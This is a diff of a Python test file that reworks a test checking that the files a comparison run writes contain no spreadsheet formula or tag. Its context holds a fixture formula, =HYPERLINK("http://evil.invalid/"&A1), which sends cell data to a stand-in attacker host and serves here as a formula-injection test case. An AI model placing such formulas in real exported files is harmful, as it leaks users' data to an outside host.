@@ -26,6 +26,7 @@ from curvlab.studies.setup import Setup
 from curvlab.studies.spreadsheet import csv_text, plain_cell
 from curvlab.studies.store import Store
 from curvlab.studies.train.run import TrainPlan, train
+from tests.cases import ONE_SCENE
 
 TINY = Setup(arch="6-4-3", data="synthetic[features=6,classes=3,examples=50]", batch=20, dtype="float64")
 FORMULA = '=HYPERLINK("http://evil.invalid/"&A1)'
@@ -109,16 +110,8 @@ def spoil(folder: Path, names: tuple[str, ...], text: str = TEXT) -> None:
 
 @pytest.mark.slow
 def test_the_files_of_a_comparison_have_no_formula_and_no_tag(tmp_path):
-    compare(
-        TINY,
-        ["fisher", "pch-1"],
-        ["kfi", "cg"],
-        repetitions=1,
-        epochs=1,
-        tune=False,
-        train_seeds=1,
-        output=tmp_path,
-    )
+    ask = ONE_SCENE | {"repetitions": 1, "epochs": 1, "tune": False, "train_seeds": 1}
+    compare(TINY, ["fisher", "pch-1"], ["kfi", "cg"], output=tmp_path, **ask)
     (tmp_path / "config.toml").unlink()
     named = ("provider", "solver", "providers", "solvers", "baselines", "optimizer", "layer_name", "notes")
     spoil(tmp_path, (*named, "newton_reason", "message", "route", "warnings", "torch", "data", "processor"))
